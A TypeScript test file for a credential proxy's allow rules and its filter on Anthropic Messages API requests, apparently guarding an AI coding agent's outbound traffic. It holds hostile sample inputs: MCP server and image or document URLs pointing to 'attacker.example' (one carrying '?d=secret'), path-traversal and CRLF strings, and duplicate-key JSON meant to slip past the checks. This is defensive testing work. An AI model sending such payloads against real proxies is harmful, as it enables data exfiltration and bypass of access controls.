import assert from "node:assert/strict";
import { describe, it } from "node:test";
import {
  effectiveRules,
  normalizeRequestPath,
  roleDefaults,
  ruleAllows,
} from "../../../src/lib/route-rules.ts";
import { hasDuplicateKeys, refusedServerFeature } from "../../../src/sidecars/cred-proxy/anthropic-policy.ts";

describe("route rules", () => {
  const github = roleDefaults(["git-insteadof"]);
  it("a GitHub route reads and fetches, but writes nothing: contents, gists, hooks, graphql", () => {
    assert.ok(ruleAllows(github, "GET", "/repos/acme/app/contents/README.md"));
    assert.ok(ruleAllows(github, "HEAD", "/"));
    assert.ok(ruleAllows(github, "POST", "/acme/app.git/git-upload-pack"));
    for (const [method, path] of [
      ["PUT", "/repos/acme/app/contents/x"],
      ["POST", "/gists"],
      ["POST", "/repos/acme/app/hooks"],
      ["POST", "/graphql"],
      ["DELETE", "/repos/acme/app"],
      ["POST", "/acme/app.git/git-receive-pack"],
    ] as const)
      assert.equal(ruleAllows(github, method, path), false, `${method} ${path}`);
  });

  it("npm reads only (no publish); Anthropic posts messages only; TRACE/TRACK/CONNECT never", () => {
    assert.equal(ruleAllows(roleDefaults(["npm-registry"]), "PUT", "/my-package"), false);
    const anthropic = roleDefaults(["anthropic-base-url"]);
    assert.ok(ruleAllows(anthropic, "POST", "/v1/messages"));
    assert.ok(ruleAllows(anthropic, "POST", "/v1/messages/count_tokens"));
    assert.equal(ruleAllows(anthropic, "POST", "/v1/files"), false);
    const everything = [{ method: "*" as const, path: "/**" }];
    for (const method of ["TRACE", "TRACK", "CONNECT"])
      assert.equal(ruleAllows(everything, method, "/x"), false);
  });

  it("a declared allow list is complete: it replaces the roles' defaults", () => {
    const rules = effectiveRules({
      roles: ["git-insteadof"],
      allow: [{ method: "POST", path: "/repos/*/*/issues" }],
    });
    assert.ok(ruleAllows(rules, "POST", "/repos/acme/app/issues"));
    assert.equal(ruleAllows(rules, "POST", "/repos/acme/app/x/issues"), false, "`*` is one segment");
    assert.equal(ruleAllows(rules, "GET", "/repos/acme/app"), false);
  });

  it("paths are decided as an upstream would read them: decoded, ;params dropped, slashes folded; # refused", () => {
    assert.deepEqual(normalizeRequestPath("/acme/app.git/git-receive-pack;x"), {
      ok: true,
      path: "/acme/app.git/git-receive-pack",
    });
    assert.deepEqual(normalizeRequestPath("//acme//git%2Dreceive-pack%3Bx"), {
      ok: true,
      path: "/acme/git-receive-pack",
    });
    assert.equal(normalizeRequestPath("/git-receive-pack#x").ok, false);
    assert.equal(
      normalizeRequestPath("/rest/api/2/issue/..;/..;/admin").ok,
      false,
      "`..;` is `..` to Tomcat",
    );
    assert.equal(normalizeRequestPath("/repos/../issues").ok, false);
    assert.equal(normalizeRequestPath("/%E0%A4%A").ok, false);
    assert.equal(normalizeRequestPath("/a%0d%0ab").ok, false);
  });
});

describe("what a Messages request may make Anthropic's servers do", () => {
  const plain = {
    model: "claude-sonnet-4-5",
    max_tokens: 100,
    system: [{ type: "text", text: "You are Claude Code." }],
    tools: [{ name: "Bash", description: "run", input_schema: { type: "object" } }],
    messages: [
      {
        role: "user",
        content: [
          { type: "text", text: "hi" },
          { type: "image", source: { type: "base64", media_type: "image/png", data: "iVBOR" } },
        ],
      },
    ],
    stream: true,
  };
  const none = new Set<never>();

  it("passes Claude Code's ordinary requests: custom tools, base64 images", () => {
    assert.equal(refusedServerFeature(plain, none), undefined);
  });

  it("refuses MCP connectors, server tools and URL sources, also inside a batch", () => {
    const cases = [
      {
        ...plain,
        mcp_servers: [
          { type: "url", url: "https://attacker.example/mcp", name: "x", authorization_token: "s" },
        ],
      },
      { ...plain, tools: [...plain.tools, { type: "web_fetch_20250910", name: "web_fetch" }] },
      { ...plain, tools: [{ type: "web_search_20250305", name: "web_search" }] },
      { ...plain, tools: [{ type: "code_execution_20250825", name: "code_execution" }] },
      { ...plain, tools: [{ type: "mcp_toolset", mcp_server_name: "x" }] },
      {
        ...plain,
        messages: [
          {
            role: "user",
            content: [
              { type: "image", source: { type: "url", url: "https://attacker.example/x.png?d=secret" } },
            ],
          },
        ],
      },
      {
        ...plain,
        messages: [
          {
            role: "user",
            content: [{ type: "document", source: { type: "url", url: "https://attacker.example/a.pdf" } }],
          },
        ],
      },
      {
        requests: [
          { custom_id: "a", params: plain },
          { custom_id: "b", params: { ...plain, mcp_servers: [{ url: "https://x" }] } },
        ],
      },
    ];
    for (const body of cases)
      assert.notEqual(refusedServerFeature(body, none), undefined, JSON.stringify(body).slice(0, 120));
    // An empty `requests` list does not leave the top level unchecked.
    assert.notEqual(
      refusedServerFeature({ ...plain, tools: [{ type: "web_search_20250305" }], requests: [] }, none),
      undefined,
    );
  });

  it("finds repeated JSON keys (parsers differ on which copy wins), not repeats across objects", () => {
    assert.equal(hasDuplicateKeys('{"tools":[{"type":"web_search_20250305"}],"tools":[]}'), true);
    assert.equal(hasDuplicateKeys('{"a":{"b":1},"c":{"b":2},"d":["b","b"],"e":"x\\"y"}'), false);
    assert.equal(hasDuplicateKeys('{"a":1,"\\u0061":2}'), true, "escaped spellings of one key");
  });

  it("lets a route opt in to a named feature", () => {
    assert.equal(
      refusedServerFeature(
        { ...plain, tools: [{ type: "web_search_20250305", name: "web_search" }] },
        new Set(["web_search" as const]),
      ),
      undefined,
    );
  });
});
